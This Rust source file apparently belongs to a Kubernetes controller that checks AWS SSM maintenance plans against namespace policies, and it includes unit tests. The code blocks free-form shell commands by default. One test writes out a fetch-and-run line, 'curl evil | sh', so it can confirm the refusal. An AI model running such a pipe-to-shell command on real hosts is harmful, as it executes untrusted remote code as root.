//! The decision itself: is this plan, in this namespace, allowed by the policies? Pure.

use std::collections::BTreeMap;

use kube::ResourceExt;
use kube::core::{Selector, SelectorExt};

use super::DefaultPolicy;
use super::glob::Glob;
use super::tags::TagConditions;
use crate::api::maintenance_policy::{AllowedDocument, MaintenancePolicy, MaintenancePolicySpec, NamespaceSelection};
use crate::api::validate::plan_region;
use crate::api::{CommandSpec, MaintenancePlanSpec};

/// Parameters whose values are scripts run as root: allowed only with `allowFreeformCommands`.
/// (`commands` of AWS-RunShellScript and AWS-RunPowerShellScript, `commandLine` of
/// AWS-RunRemoteScript.)
pub const FREEFORM_PARAMETERS: [&str; 2] = ["commands", "commandLine"];

/// The document the restricted default allows besides the built-in graceful reboot.
pub const DEFAULT_DOCUMENT: &str = "AWS-RunPatchBaseline";

/// The namespace of a plan, as far as policies look at it.
#[derive(Clone, Copy, Debug)]
pub struct NamespaceView<'a> {
    /// Its name.
    pub name: &'a str,
    /// Its labels (empty when the namespace is not known).
    pub labels: &'a BTreeMap<String, String>,
}

/// A plan that may run, and who allowed it.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Allowed {
    /// `MaintenancePolicy NAME`, or the controller's default policy.
    pub by: String,
}

/// What the policies say of a plan, from the plan alone.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Allowance {
    /// It may run.
    Allowed(Allowed),
    /// It may run if its target groups and instances carry the tags one of these policies
    /// asks for (see [`super::check_tags`]); in the policies' name order.
    IfTagged(Vec<TagConditions>),
}

impl Allowance {
    /// Who allowed the plan, when no tag is needed.
    pub fn outright(&self) -> Option<&Allowed> {
        match self {
            Self::Allowed(allowed) => Some(allowed),
            Self::IfTagged(_) => None,
        }
    }
}

/// A plan that may not run: one sentence saying what was refused and by which policy.
#[derive(Clone, Debug, PartialEq, Eq, thiserror::Error)]
#[error("{message}")]
pub struct Refusal {
    /// The sentence, for the status, the Event and the log.
    pub message: String,
}

/// Whether `policy` applies to the namespace: named in it, or matched by its selector.
pub fn selects(selection: &NamespaceSelection, namespace: NamespaceView<'_>) -> bool {
    if selection.names.iter().any(|n| n == namespace.name) {
        return true;
    }
    match &selection.selector {
        // The CRD schema only lets valid operators through; an object that still fails to
        // convert selects nothing, as a selector the apiserver would reject.
        Some(selector) => Selector::try_from(selector.clone()).is_ok_and(|s| s.matches(namespace.labels)),
        None => false,
    }
}

/// Decides whether the plan may run: allowed if any policy that selects its namespace allows
/// all of it; with none, the `default` decides. A policy that allows the plan but asks for
/// tags allows it only [`Allowance::IfTagged`], unless another allows it outright.
pub fn evaluate<'p>(
    spec: &MaintenancePlanSpec,
    namespace: NamespaceView<'_>,
    policies: impl IntoIterator<Item = &'p MaintenancePolicy>,
    default: DefaultPolicy,
) -> Result<Allowance, Refusal> {
    let mut selecting: Vec<&MaintenancePolicy> = policies
        .into_iter()
        .filter(|p| selects(&p.spec.namespaces, namespace))
        .collect();
    selecting.sort_by_key(|p| p.name_any());
    if selecting.is_empty() {
        return match default {
            DefaultPolicy::Unrestricted => Ok(Allowance::Allowed(Allowed {
                by: "the controller's unrestricted default policy".to_owned(),
            })),
            DefaultPolicy::Restricted => match problems(spec, &restricted_default()) {
                problems if problems.is_empty() => Ok(Allowance::Allowed(Allowed {
                    by: "the controller's restricted default policy".to_owned(),
                })),
                problems => Err(Refusal {
                    message: format!(
                        "not allowed in namespace {}: no MaintenancePolicy selects it, and the controller's default policy \
                         allows only the built-in graceful reboot and {DEFAULT_DOCUMENT} without free-form commands: {}",
                        namespace.name,
                        problems.join("; ")
                    ),
                }),
            },
        };
    }
    let mut refusals = Vec::with_capacity(selecting.len());
    let mut if_tagged = Vec::new();
    for policy in selecting {
        let problems = problems(spec, &policy.spec);
        let by = format!("MaintenancePolicy {}", policy.name_any());
        if !problems.is_empty() {
            refusals.push(format!("{by} ({})", problems.join("; ")));
        } else if policy.spec.target_group_tags.is_empty() && policy.spec.instance_tags.is_empty() {
            return Ok(Allowance::Allowed(Allowed { by }));
        } else {
            if_tagged.push(TagConditions {
                policy: by,
                target_group_tags: policy.spec.target_group_tags.clone(),
                instance_tags: policy.spec.instance_tags.clone(),
            });
        }
    }
    if !if_tagged.is_empty() {
        return Ok(Allowance::IfTagged(if_tagged));
    }
    Err(Refusal {
        message: format!("not allowed by {}", refusals.join(", nor by ")),
    })
}

/// The policy of a namespace no MaintenancePolicy selects, under the restricted default.
fn restricted_default() -> MaintenancePolicySpec {
    MaintenancePolicySpec {
        namespaces: NamespaceSelection::default(),
        target_groups: vec!["*".to_owned()],
        target_group_tags: BTreeMap::new(),
        instance_tags: BTreeMap::new(),
        regions: Vec::new(),
        accounts: Vec::new(),
        allow_graceful_reboot: true,
        documents: vec![AllowedDocument {
            name: DEFAULT_DOCUMENT.to_owned(),
            version: None,
            parameters: None,
        }],
        allow_freeform_commands: false,
    }
}

/// Everything in `spec` that `policy` does not allow, one short clause each.
fn problems(spec: &MaintenancePlanSpec, policy: &MaintenancePolicySpec) -> Vec<String> {
    let mut problems = Vec::new();
    // Every one of the plan's target groups must be allowed, and be in an allowed account.
    for arn in spec.target_groups() {
        if !policy.target_groups.iter().any(|p| Glob::new(p).matches(arn)) {
            problems.push(format!("target group {arn} matches none of its targetGroups"));
        }
    }
    let region = plan_region(spec).unwrap_or_default();
    if !policy.regions.is_empty() && !policy.regions.iter().any(|r| r == region) {
        problems.push(format!("region {region:?} is not in its regions"));
    }
    let mut accounts: Vec<&str> = spec
        .target_groups()
        .into_iter()
        .map(|arn| arn.split(':').nth(4).unwrap_or_default())
        .collect();
    accounts.dedup();
    for account in accounts {
        if !policy.accounts.is_empty() && !policy.accounts.iter().any(|a| a == account) {
            problems.push(format!("account {account:?} is not in its accounts"));
        }
    }
    match &spec.maintenance {
        None if !policy.allow_graceful_reboot => {
            problems.push("the built-in graceful reboot (no maintenance) is not allowed".to_owned());
        }
        None => {}
        Some(command) => command_problems("maintenance", command, policy, &mut problems),
    }
    if let Some(command) = &spec.verify {
        command_problems("verify", command, policy, &mut problems);
    }
    problems
}

fn command_problems(field: &str, command: &CommandSpec, policy: &MaintenancePolicySpec, problems: &mut Vec<String>) {
    let name = command.document_name.as_str();
    let Some(allowed) = policy.documents.iter().find(|d| d.name == name) else {
        problems.push(format!("{field} document {name} is not in its documents"));
        return;
    };
    if let Some(pinned) = &allowed.version
        && command.document_version.as_ref() != Some(pinned)
    {
        problems.push(format!(
            "{field} document {name} must name documentVersion {pinned:?} (the plan names {})",
            command
                .document_version
                .as_deref()
                .map_or_else(|| "none".to_owned(), |v| format!("{v:?}"))
        ));
    }
    for parameter in command.parameters.keys() {
        if FREEFORM_PARAMETERS.contains(&parameter.as_str()) && !policy.allow_freeform_commands {
            problems.push(format!(
                "{field} passes free-form {parameter:?} to {name}, and free-form commands are not allowed"
            ));
        } else if let Some(names) = &allowed.parameters
            && !names.contains(parameter)
        {
            problems.push(format!(
                "{field} passes parameter {parameter:?}, which {name} is not allowed"
            ));
        }
    }
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeMap;

    use k8s_openapi::apimachinery::pkg::apis::meta::v1::LabelSelector;

    use super::*;

    const ARN_A: &str = "arn:aws:elasticloadbalancing:eu-west-1:123456789012:targetgroup/team-a-web/0123456789abcdef";
    const ARN_B: &str = "arn:aws:elasticloadbalancing:eu-west-1:123456789012:targetgroup/team-b-web/0123456789abcdef";
    const ARN_OTHER_ACCOUNT: &str =
        "arn:aws:elasticloadbalancing:eu-west-1:999999999999:targetgroup/team-a-web/0123456789abcdef";
    const ARN_OTHER_REGION: &str =
        "arn:aws:elasticloadbalancing:us-east-1:123456789012:targetgroup/team-a-web/0123456789abcdef";

    fn plan(arn: &str) -> MaintenancePlanSpec {
        MaintenancePlanSpec {
            target_group_arn: arn.to_owned(),
            instances: vec!["i-0123456789abcdef0".to_owned()],
            ..MaintenancePlanSpec::default()
        }
    }

    fn command(document: &str, parameters: &[(&str, &str)]) -> CommandSpec {
        CommandSpec {
            document_name: document.to_owned(),
            document_version: None,
            parameters: parameters
                .iter()
                .map(|(k, v)| ((*k).to_owned(), vec![(*v).to_owned()]))
                .collect(),
            timeout_seconds: None,
        }
    }

    fn policy(name: &str, namespaces: &[&str], spec: impl FnOnce(&mut MaintenancePolicySpec)) -> MaintenancePolicy {
        let mut policy_spec = MaintenancePolicySpec {
            namespaces: NamespaceSelection {
                names: namespaces.iter().map(|n| (*n).to_owned()).collect(),
                selector: None,
            },
            target_groups: vec![
                "arn:aws:elasticloadbalancing:eu-west-1:123456789012:targetgroup/team-a-*/*".to_owned(),
            ],
            target_group_tags: BTreeMap::new(),
            instance_tags: BTreeMap::new(),
            regions: Vec::new(),
            accounts: Vec::new(),
            allow_graceful_reboot: true,
            documents: vec![AllowedDocument {
                name: "AWS-RunPatchBaseline".to_owned(),
                version: None,
                parameters: Some(vec!["Operation".to_owned()]),
            }],
            allow_freeform_commands: false,
        };
        spec(&mut policy_spec);
        MaintenancePolicy::new(name, policy_spec)
    }

    fn namespace<'a>(name: &'a str, labels: &'a BTreeMap<String, String>) -> NamespaceView<'a> {
        NamespaceView { name, labels }
    }

    fn team_a(labels: &BTreeMap<String, String>) -> NamespaceView<'_> {
        namespace("team-a", labels)
    }

    #[test]
    fn a_plan_inside_its_policy_is_allowed_by_that_policy() {
        let labels = BTreeMap::new();
        let policies = [policy("team-a", &["team-a"], |_| {})];
        let mut spec = plan(ARN_A);
        assert_eq!(
            evaluate(&spec, team_a(&labels), &policies, DefaultPolicy::Restricted),
            Ok(Allowance::Allowed(Allowed {
                by: "MaintenancePolicy team-a".to_owned()
            }))
        );
        spec.maintenance = Some(command("AWS-RunPatchBaseline", &[("Operation", "Install")]));
        assert!(evaluate(&spec, team_a(&labels), &policies, DefaultPolicy::Restricted).is_ok());
    }

    #[test]
    fn another_target_group_is_refused_naming_the_group_and_the_policy() {
        let labels = BTreeMap::new();
        let policies = [policy("team-a", &["team-a"], |_| {})];
        let refusal = evaluate(&plan(ARN_B), team_a(&labels), &policies, DefaultPolicy::Unrestricted)
            .expect_err("team-b's group is not team-a's");
        assert_eq!(
            refusal.message,
            format!("not allowed by MaintenancePolicy team-a (target group {ARN_B} matches none of its targetGroups)")
        );
    }

    #[test]
    fn every_target_group_of_a_plan_must_be_allowed() {
        let labels = BTreeMap::new();
        let policies = [policy("team-a", &["team-a"], |_| {})];
        let mut spec = plan("");
        spec.target_group_arns = vec![ARN_A.to_owned(), ARN_B.to_owned()];
        let refusal = evaluate(&spec, team_a(&labels), &policies, DefaultPolicy::Unrestricted)
            .expect_err("one of the groups is team-b's");
        assert_eq!(
            refusal.message,
            format!("not allowed by MaintenancePolicy team-a (target group {ARN_B} matches none of its targetGroups)")
        );
        spec.target_group_arns = vec![ARN_A.to_owned()];
        assert!(evaluate(&spec, team_a(&labels), &policies, DefaultPolicy::Unrestricted).is_ok());
    }

    #[test]
    fn regions_and_accounts_are_checked_besides_the_patterns() {
        let labels = BTreeMap::new();
        let open = |p: &mut MaintenancePolicySpec| {
            p.target_groups = vec!["*".to_owned()];
            p.regions = vec!["eu-west-1".to_owned()];
            p.accounts = vec!["123456789012".to_owned()];
        };
        let policies = [policy("team-a", &["team-a"], open)];
        assert!(evaluate(&plan(ARN_A), team_a(&labels), &policies, DefaultPolicy::Restricted).is_ok());
        let region = evaluate(
            &plan(ARN_OTHER_REGION),
            team_a(&labels),
            &policies,
            DefaultPolicy::Restricted,
        )
        .expect_err("us-east-1 is not allowed");
        assert!(
            region.message.contains("region \"us-east-1\" is not in its regions"),
            "{region}"
        );
        let account = evaluate(
            &plan(ARN_OTHER_ACCOUNT),
            team_a(&labels),
            &policies,
            DefaultPolicy::Restricted,
        )
        .expect_err("another account is not allowed");
        assert!(
            account
                .message
                .contains("account \"999999999999\" is not in its accounts"),
            "{account}"
        );
    }

    #[test]
    fn free_form_commands_need_the_policy_to_say_so() {
        let labels = BTreeMap::new();
        let shell = |p: &mut MaintenancePolicySpec| {
            p.documents.push(AllowedDocument {
                name: "AWS-RunShellScript".to_owned(),
                version: None,
                parameters: None,
            });
        };
        let mut spec = plan(ARN_A);
        spec.verify = Some(command("AWS-RunShellScript", &[("commands", "curl -fsS localhost")]));
        let refusal = evaluate(
            &spec,
            team_a(&labels),
            &[policy("team-a", &["team-a"], shell)],
            DefaultPolicy::Restricted,
        )
        .expect_err("free-form commands are off");
        assert!(
            refusal
                .message
                .contains("verify passes free-form \"commands\" to AWS-RunShellScript"),
            "{refusal}"
        );
        let permissive = policy("team-a", &["team-a"], |p| {
            shell(p);
            p.allow_freeform_commands = true;
        });
        assert!(evaluate(&spec, team_a(&labels), &[permissive], DefaultPolicy::Restricted).is_ok());
    }

    #[test]
    fn documents_versions_and_parameters_are_checked() {
        let labels = BTreeMap::new();
        let pinned = |p: &mut MaintenancePolicySpec| p.documents[0].version = Some("3".to_owned());
        let policies = [policy("team-a", &["team-a"], pinned)];
        let mut spec = plan(ARN_A);
        spec.maintenance = Some(command("Custom-Wipe", &[]));
        let unknown = evaluate(&spec, team_a(&labels), &policies, DefaultPolicy::Restricted).expect_err("unlisted");
        assert!(
            unknown
                .message
                .contains("maintenance document Custom-Wipe is not in its documents"),
            "{unknown}"
        );

        let mut patch = command("AWS-RunPatchBaseline", &[("Operation", "Install")]);
        spec.maintenance = Some(patch.clone());
        let unpinned = evaluate(&spec, team_a(&labels), &policies, DefaultPolicy::Restricted).expect_err("no version");
        assert!(
            unpinned.message.contains("must name documentVersion \"3\""),
            "{unpinned}"
        );
        patch.document_version = Some("3".to_owned());
        spec.maintenance = Some(patch.clone());
        assert!(evaluate(&spec, team_a(&labels), &policies, DefaultPolicy::Restricted).is_ok());

        patch
            .parameters
            .insert("InstallOverrideList".to_owned(), vec!["s3://x".to_owned()]);
        spec.maintenance = Some(patch);
        let parameter =
            evaluate(&spec, team_a(&labels), &policies, DefaultPolicy::Restricted).expect_err("unlisted parameter");
        assert!(parameter.message.contains("\"InstallOverrideList\""), "{parameter}");
    }

    #[test]
    fn the_graceful_reboot_can_be_withheld() {
        let labels = BTreeMap::new();
        let policies = [policy("team-a", &["team-a"], |p| p.allow_graceful_reboot = false)];
        let refusal =
            evaluate(&plan(ARN_A), team_a(&labels), &policies, DefaultPolicy::Restricted).expect_err("no reboot");
        assert!(refusal.message.contains("graceful reboot"), "{refusal}");
    }

    #[test]
    fn without_a_policy_the_restricted_default_allows_the_reboot_and_patching_only() {
        let labels = BTreeMap::new();
        let elsewhere = [policy("team-b", &["team-b"], |_| {})];
        let ns = namespace("team-c", &labels);
        let mut spec = plan(ARN_B);
        let allowed = evaluate(&spec, ns, &elsewhere, DefaultPolicy::Restricted).expect("the graceful reboot");
        assert_eq!(
            allowed.outright().map(|a| a.by.as_str()),
            Some("the controller's restricted default policy")
        );
        spec.maintenance = Some(command("AWS-RunPatchBaseline", &[("Operation", "Install")]));
        assert!(evaluate(&spec, ns, &elsewhere, DefaultPolicy::Restricted).is_ok());

        spec.maintenance = Some(command("AWS-RunShellScript", &[("commands", "curl evil | sh")]));
        let refusal = evaluate(&spec, ns, &elsewhere, DefaultPolicy::Restricted).expect_err("a root shell");
        assert!(
            refusal
                .message
                .starts_with("not allowed in namespace team-c: no MaintenancePolicy selects it")
        );
        assert!(
            refusal
                .message
                .contains("maintenance document AWS-RunShellScript is not in its documents"),
            "{refusal}"
        );
        spec.maintenance = None;
        spec.verify = Some(command("AWS-RunShellScript", &[("commands", "true")]));
        assert!(evaluate(&spec, ns, &elsewhere, DefaultPolicy::Restricted).is_err());
        // The unrestricted default is the behaviour from before policies.
        assert!(evaluate(&spec, ns, &elsewhere, DefaultPolicy::Unrestricted).is_ok());
    }

    #[test]
    fn a_selecting_policy_replaces_the_default_even_when_unrestricted() {
        let labels = BTreeMap::new();
        let policies = [policy("team-a", &["team-a"], |_| {})];
        let mut spec = plan(ARN_A);
        spec.maintenance = Some(command("AWS-RunShellScript", &[("commands", "id")]));
        assert!(evaluate(&spec, team_a(&labels), &policies, DefaultPolicy::Unrestricted).is_err());
    }

    #[test]
    fn any_selecting_policy_may_allow_and_a_refusal_names_them_all() {
        let labels = BTreeMap::new();
        let a = policy("team-a", &["shared"], |_| {});
        let b = policy("team-b", &["shared"], |p| {
            p.target_groups = vec!["arn:aws:elasticloadbalancing:*:*:targetgroup/team-b-*/*".to_owned()];
        });
        let ns = namespace("shared", &labels);
        let policies = [b.clone(), a.clone()];
        assert_eq!(
            evaluate(&plan(ARN_B), ns, &policies, DefaultPolicy::Restricted).map(|a| a.outright().cloned()),
            Ok(Some(Allowed {
                by: "MaintenancePolicy team-b".to_owned()
            }))
        );
        let refusal = evaluate(
            &plan(ARN_OTHER_ACCOUNT.replace("team-a", "team-c").as_str()),
            ns,
            &policies,
            DefaultPolicy::Restricted,
        )
        .expect_err("neither allows team-c");
        assert!(
            refusal.message.starts_with("not allowed by MaintenancePolicy team-a (")
                && refusal.message.contains("), nor by MaintenancePolicy team-b ("),
            "{refusal}"
        );
    }

    #[test]
    fn a_policy_asking_for_tags_allows_only_if_tagged_unless_another_allows_outright() {
        let labels = BTreeMap::new();
        let managed = BTreeMap::from([("pitstop.dev/managed".to_owned(), "true".to_owned())]);
        let tagged = policy("a-tagged", &["team-a"], |p| {
            p.instance_tags = managed.clone();
            p.target_group_tags = managed.clone();
        });
        assert_eq!(
            evaluate(&plan(ARN_A), team_a(&labels), [&tagged], DefaultPolicy::Restricted),
            Ok(Allowance::IfTagged(vec![TagConditions {
                policy: "MaintenancePolicy a-tagged".to_owned(),
                target_group_tags: managed.clone(),
                instance_tags: managed.clone(),
            }]))
        );
        // A plan the policy refuses from its spec is refused whatever the tags.
        assert!(evaluate(&plan(ARN_B), team_a(&labels), [&tagged], DefaultPolicy::Restricted).is_err());
        let outright = policy("b-outright", &["team-a"], |_| {});
        assert_eq!(
            evaluate(
                &plan(ARN_A),
                team_a(&labels),
                [&tagged, &outright],
                DefaultPolicy::Restricted
            )
            .map(|a| a.outright().cloned()),
            Ok(Some(Allowed {
                by: "MaintenancePolicy b-outright".to_owned()
            }))
        );
    }

    #[test]
    fn namespaces_are_selected_by_name_or_labels() {
        let labels: BTreeMap<String, String> = [("pitstop.dev/team".to_owned(), "a".to_owned())].into();
        let none = BTreeMap::new();
        let by_label = NamespaceSelection {
            names: Vec::new(),
            selector: Some(LabelSelector {
                match_labels: Some(labels.clone()),
                match_expressions: None,
            }),
        };
        assert!(selects(&by_label, namespace("anything", &labels)));
        assert!(!selects(&by_label, namespace("anything", &none)));
        let by_name = NamespaceSelection {
            names: vec!["team-a".to_owned()],
            selector: None,
        };
        assert!(selects(&by_name, namespace("team-a", &none)));
        assert!(!selects(&by_name, namespace("team-ab", &none)));
        assert!(!selects(&NamespaceSelection::default(), namespace("team-a", &labels)));
    }
}
